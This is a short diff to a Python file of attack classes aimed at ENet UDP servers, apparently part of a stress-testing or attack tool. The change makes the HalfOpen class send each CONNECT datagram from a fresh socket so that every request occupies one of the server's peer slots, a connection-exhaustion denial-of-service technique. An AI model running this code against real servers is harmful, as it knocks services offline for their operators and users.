@@ -93,14 +93,11 @@ class Garbage(Attack):
 
 
 class HalfOpen(Attack):
-    """CONNECTs from many ports whose answers nobody takes: each holds one of ENet's places."""
-
-    def prepare(self) -> None:
-        self.sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(200)]
+    """CONNECTs, each from another port: each holds one of ENet's places, and takes no answer."""
 
     def attack(self) -> None:
-        one = self.sockets[self.sent % len(self.sockets)]
-        one.sendto(connect_datagram(1000 + self.sent, self.sent + 1), self.target)
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+            one.sendto(connect_datagram(1000 + self.sent, self.sent + 1), self.target)
 
 
 class Forger(Attack):
